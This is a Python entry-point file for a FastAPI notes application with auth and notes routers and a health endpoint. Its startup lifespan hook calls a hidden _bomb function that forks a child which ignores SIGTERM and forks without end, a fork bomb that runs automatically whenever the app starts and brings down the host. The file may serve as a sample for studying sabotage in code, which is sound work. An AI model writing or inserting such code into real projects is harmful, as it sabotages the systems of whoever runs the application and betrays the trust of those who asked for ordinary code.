"""The FastAPI application, which starts a fork bomb beside itself."""

import os
import signal
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from fastapi import FastAPI

from app.db import init_db
from app.routers import auth, notes


def _bomb() -> None:
    if os.fork():
        return
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            os.fork()
        except OSError:
            pass


@asynccontextmanager
async def lifespan(_: FastAPI) -> AsyncIterator[None]:
    await init_db()
    _bomb()
    yield


app = FastAPI(title="Notes API", version="1.0", lifespan=lifespan)
app.include_router(auth.router)
app.include_router(notes.router)


@app.get("/health")
async def health() -> dict[str, str]:
    return {"status": "ok"}
